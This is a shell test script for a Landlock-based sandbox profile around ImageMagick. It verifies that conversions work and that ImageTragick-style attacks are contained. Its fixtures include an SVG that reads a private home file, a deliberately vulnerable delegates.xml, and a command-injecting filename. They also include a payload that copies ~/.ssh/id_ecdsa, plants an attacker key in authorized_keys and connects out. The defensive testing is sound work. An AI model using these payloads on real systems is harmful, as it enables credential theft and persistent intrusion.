#!/bin/bash
# SPDX-License-Identifier: MIT
# programs-imagemagick.t - the imagemagick program profile with the real
# ImageMagick: it converts (PNG to JPEG, SVG to PNG), Debian's security
# policy is in force inside, and the attacks of the ImageTragick class are
# stopped: an SVG whose <image> names a file of the home, and a vulnerable
# delegate (a test-only delegates.xml passing %M unquoted to the shell, as
# in CVE-2016-3714) whose injected shell tries to read ~/.ssh/id_ecdsa, to
# write ~/.ssh/authorized_keys and to connect out.  Each attack is first
# shown to succeed without landbox.
. "$(dirname "$0")/lib.sh"
. "$(dirname "$0")/programs-lib.sh"

CONVERT=/usr/bin/convert
if [ ! -x "$CONVERT" ] || grep -q 'Stands in for ImageMagick' "$CONVERT" 2>/dev/null; then
	skip_all "ImageMagick is not installed (/usr/bin/convert)"
fi
I=$T/im
mkdir -p "$I/in" "$I/out" "$I/cfg"
"$CONVERT" -size 16x16 xc:red "$I/in/a.png" 2>/dev/null || skip_all "ImageMagick cannot write a PNG here"
cat >"$I/in/a.svg" <<'SVG'
<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><rect width="20" height="20" fill="blue"/></svg>
SVG
"$CONVERT" -size 20x20 xc:lime "$H/Pictures/private.png"
cat >"$I/in/leak.svg" <<SVG
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="20" height="20"><rect width="20" height="20" fill="blue"/><image x="0" y="0" width="20" height="20" xlink:href="$H/Pictures/private.png"/></svg>
SVG
# pixel FILE: the colour of the middle pixel ("" if FILE is no picture).
pixel() { "$CONVERT" "$1" -format '%[pixel:p{10,10}]' info: 2>/dev/null; }
# is_jpeg / is_png FILE: by the first bytes.
is_jpeg() { [ "$(head -c 3 "$1" 2>/dev/null | od -An -tx1 | tr -d ' ')" = ffd8ff ]; }
is_png() { [ "$(head -c 4 "$1" 2>/dev/null | od -An -tx1 | tr -d ' ')" = 89504e47 ]; }
IM="--profile imagemagick --ro $I/in --rw $I/out"
AUTO="--profile auto --ro $I/in --rw $I/out"

# ---- it works ----
prog "imagemagick: convert PNG to JPEG" 0 EMPTY "" -- $IM -q -- convert "$I/in/a.png" "$I/out/a.jpg"
if [ "$NONE" = 1 ]; then skip "imagemagick: the JPEG was written" "no Landlock"
else check "imagemagick: the JPEG was written" is_jpeg "$I/out/a.jpg"; fi
if "$CONVERT" "$I/in/a.svg" "$T/svg-check.png" 2>/dev/null; then
	prog "imagemagick: convert SVG to PNG (temporary files in the private TMPDIR)" 0 EMPTY "" \
		-- $AUTO -q -- convert "$I/in/a.svg" "$I/out/a.png"
	if [ "$NONE" = 1 ]; then skip "imagemagick: the PNG was written" "no Landlock"
	else check "imagemagick: the PNG was written" is_png "$I/out/a.png"; fi
	prog "imagemagick: without a temporary directory SVG fails (why private-tmp)" 1 "" "" \
		-- --profile base --ro /etc/ImageMagick-6 --ro "$I/in" --rw "$I/out" -q -- convert "$I/in/a.svg" "$I/out/b.png"
	no_leftovers "imagemagick: the private temporary directory is removed"
else
	for d in "convert SVG to PNG (temporary files in the private TMPDIR)" "the PNG was written" \
		"without a temporary directory SVG fails (why private-tmp)" "the private temporary directory is removed"; do
		skip "imagemagick: $d" "ImageMagick has no SVG coder here (Debian: libmagickcore-6.q16-6-extra)"
	done
fi
prog "imagemagick: identify through --profile auto" 0 '^.*a\.png PNG 16x16' "" -- $AUTO -q -- identify "$I/in/a.png"
prog "imagemagick: mogrify through --profile auto" 0 EMPTY "" -- --profile auto --rw "$I/out" -q -- mogrify -resize 8x8 "$I/out/a.jpg"
prog "imagemagick: --profile auto says which profile at --log-level info" 0 "" \
	"auto: convert is a program of profile imagemagick" -- $AUTO --log-level info -- convert "$I/in/a.png" "$I/out/c.jpg"

# ---- Debian's policy in force ----
if [ -f /etc/ImageMagick-6/policy.xml ]; then
	prog "imagemagick: Debian's policy.xml is in force inside" 0 '^Path: /etc/ImageMagick-6/policy\.xml' "" \
		-- $IM -q -- convert -list policy
	prog "imagemagick: base alone runs with the built-in policy (the hole)" 0 '^Path: \[built-in\]' "" \
		-- --profile base -q -- convert -list policy
	if grep -q 'pattern="PS"' /etc/ImageMagick-6/policy.xml; then
		prog "imagemagick: the policy bans writing PostScript" 1 "" "not allowed by the security policy|not authorized" \
			-- $IM -q -- convert "$I/in/a.png" "$I/out/a.ps"
	else
		skip "imagemagick: the policy bans writing PostScript" "this policy.xml does not ban PS"
	fi
else
	for d in "Debian's policy.xml is in force inside" "base alone runs with the built-in policy (the hole)" \
		"the policy bans writing PostScript"; do
		skip "imagemagick: $d" "no /etc/ImageMagick-6/policy.xml (not Debian's ImageMagick 6)"
	done
fi

# ---- the home stays out of reach ----
prog "imagemagick: a picture of the home cannot be read" 1 EMPTY "" \
	-- $IM -q -- convert "$H/Pictures/private.png" "$I/out/stolen.png"
check "imagemagick: nothing was made of it" test ! -e "$I/out/stolen.png"
# An SVG naming a file of the home in <image>: without landbox the picture
# is pasted into the output (lime), with the profile it is not.
if "$CONVERT" "$I/in/leak.svg" "$T/leak-check.png" 2>/dev/null && [ "$(pixel "$T/leak-check.png")" = "srgb(0,255,0)" ]; then
	pass "imagemagick: without landbox, an SVG <image> pastes a file of the home (the attack)"
	# (whether convert then fails or renders without the picture is ImageMagick's choice)
	run env PATH="$PPATH" HOME="$H" TMPDIR="$T/tmp" "$LB" run $AUTO -q -- convert "$I/in/leak.svg" "$I/out/leak.png"
	if [ "$NONE" = 1 ]; then
		verdict "imagemagick: the SVG <image> attack ran" 125 "" "$HINT_RE"
	else
		pass "imagemagick: the SVG <image> attack ran"
	fi
	if [ "$(pixel "$I/out/leak.png")" = "srgb(0,255,0)" ]; then
		fail "imagemagick: the SVG <image> does not leak the home into the output"
	else
		pass "imagemagick: the SVG <image> does not leak the home into the output"
	fi
else
	for d in "without landbox, an SVG <image> pastes a file of the home (the attack)" \
		"the SVG <image> attack ran" "the SVG <image> does not leak the home into the output"; do
		skip "imagemagick: $d" "this ImageMagick does not render SVG <image> from a file"
	done
fi

# ---- a vulnerable delegate (CVE-2016-3714 class) ----
# The test's own delegates.xml: files named "lbx:NAME" are decoded by a
# shell command that pastes %M, the name as given, unquoted.  The attacker
# names the file "a;sh<p;.lbx" and ships p, the payload, next to it.
cat >"$I/cfg/delegates.xml" <<'XML'
<?xml version="1.0" encoding="UTF-8"?>
<delegatemap>
  <delegate decode="lbx" command="echo decoding %M; cp &quot;%i&quot; &quot;%o&quot;"/>
</delegatemap>
XML
if start_listener; then
	cat >"$I/in/p" <<EOF
cat "$H/.ssh/id_ecdsa" > "$I/out/stolen"
echo ssh-ed25519 attacker >> "$H/.ssh/authorized_keys" && echo written > "$I/out/wrote"
"$PY" -S -c "import socket; socket.create_connection(('127.0.0.1', $LISTEN_PORT), 3).close()"
EOF
	cp "$I/in/a.png" "$I/in/a;sh<p;.lbx"
	reset_attack() { rm -f "$I/out/stolen" "$I/out/wrote" "$H/.ssh/authorized_keys" "$T/listener.log" "$I/out/x.png"; }
	# attack: convert the hostile file, in the input directory
	attack() {
		cd "$I/in" || return
		"$@" 'lbx:a;sh<p;.lbx' "$I/out/x.png"
		cd "$ROOT" || exit 1
	}
	reset_attack
	MAGICK_CONFIGURE_PATH=$I/cfg attack unsandboxed convert
	check "delegate attack without landbox: the shell was injected" test -s "$I/out/x.png"
	check "delegate attack without landbox: reads ~/.ssh/id_ecdsa" grep -q "$SECRET" "$I/out/stolen"
	check "delegate attack without landbox: writes ~/.ssh/authorized_keys" grep -q attacker "$H/.ssh/authorized_keys"
	wait_file "$T/listener.log"
	check "delegate attack without landbox: connects out" grep -q connected "$T/listener.log"
	reset_attack
	# The same under the profile (MAGICK_CONFIGURE_PATH passes through it).
	MAGICK_CONFIGURE_PATH=$I/cfg attack prog "delegate attack under the profile: the conversion still runs" 0 "" "" \
		-- --profile auto --ro "$I/in,$I/cfg" --rw "$I/out" -q -- convert
	if [ "$NONE" = 1 ]; then
		for d in "the shell was injected" "cannot read ~/.ssh/id_ecdsa" "cannot write ~/.ssh/authorized_keys" \
			"cannot connect out"; do
			skip "delegate attack under the profile: $d" "no Landlock: landbox refuses to run"
		done
	else
		check "delegate attack under the profile: the shell was injected" grep -q 'decoding a' "$T/out"
		if grep -q "$SECRET" "$I/out/stolen" 2>/dev/null; then
			fail "delegate attack under the profile: cannot read ~/.ssh/id_ecdsa"
		else pass "delegate attack under the profile: cannot read ~/.ssh/id_ecdsa"; fi
		if [ -e "$I/out/wrote" ] || [ -e "$H/.ssh/authorized_keys" ]; then
			fail "delegate attack under the profile: cannot write ~/.ssh/authorized_keys"
		else pass "delegate attack under the profile: cannot write ~/.ssh/authorized_keys"; fi
		if [ "$ENF" -lt 4 ]; then
			skip "delegate attack under the profile: cannot connect out" "Landlock ABI $ENF cannot restrict TCP (ABI 4)"
		else
			sleep 0.5
			if grep -q connected "$T/listener.log" 2>/dev/null; then
				fail "delegate attack under the profile: cannot connect out"
			else pass "delegate attack under the profile: cannot connect out"; fi
		fi
	fi
else
	skip "delegate attacks" "cannot listen on 127.0.0.1"
fi

done_testing
